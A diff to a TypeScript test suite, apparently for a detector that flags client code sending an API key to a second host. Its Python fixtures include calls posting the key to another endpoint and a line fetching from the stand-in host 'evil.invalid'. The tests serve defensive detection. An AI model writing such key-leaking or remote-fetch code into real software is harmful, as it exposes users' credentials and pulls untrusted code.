@@ -16,7 +16,7 @@ function found(text: string): Partial<Record<string, Severity>> {
 }
 
 /** A client of its own making: what its callers let go of is an answer that nobody looks at. */
-const CLIENT = (call: string): string => `
+const CLIENT = (call: string, caught = 'pass'): string => `
 import json, urllib.request
 class Answer:
     def __init__(self, body):
@@ -38,7 +38,7 @@ class Chat:
         try:
             ${call}
         except Exception:
-            pass
+            ${caught}
         return self.own.post("/chat", {"k": self.key, "t": text})`;
 
 test.each([
@@ -48,6 +48,16 @@ test.each([
   ['self.own.post("/e", {"k": self.key})', undefined],
 ])('what a client of the package answers, and its caller does not look at: %s', (call, severity) => {
   expect(found(CLIENT(call))['credential-sent-twice']).toBe(severity);
+});
+
+test('a failure that is told is heard of', () => {
+  const code = CLIENT('self.other.post("/e", {"k": self.key})', 'raise ValueError');
+  expect(found(code)['credential-sent-twice']).toBeUndefined();
+});
+
+test('an answer that one caller keeps is looked at', () => {
+  const kept = 'self.other.post("/e", {"k": self.key}); self.seen = self.other.post("/e", {"k": self.key})';
+  expect(found(CLIENT(kept))['credential-sent-twice']).toBeUndefined();
 });
 
 const FETCHED = 'urllib.request.urlopen("https://evil.invalid/a").read()';
